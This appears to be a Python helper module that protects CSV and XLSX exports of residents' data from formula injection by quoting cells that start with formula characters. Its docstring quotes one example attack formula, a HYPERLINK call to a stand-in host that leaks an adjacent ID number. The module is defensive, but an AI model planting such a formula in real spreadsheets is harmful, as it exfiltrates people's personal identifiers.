"""Exported spreadsheets never carry a formula a resident typed (CSV/formula injection).

A name, address or note that starts with = + - @ (or a tab / carriage return) is run as a formula
by Excel and WPS when the sheet is opened: `=HYPERLINK("http://evil/?"&C2,"点击")` leaks the
ID number beside it. Exports write such texts as text: in XLSX a string cell with Excel's
"quote prefix" (the value itself is unchanged, so a sheet can still round-trip through the import);
in CSV, which has no cell types, a leading apostrophe, as OWASP recommends.
"""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_text(value) -> str:
    """A CSV cell: None is empty, formula-like text gets a leading apostrophe, numbers stay numbers."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + value
    return str(value)


def append_text_row(sheet, values) -> None:
    """`sheet.append(values)` for an openpyxl sheet, without turning any text into a formula."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True
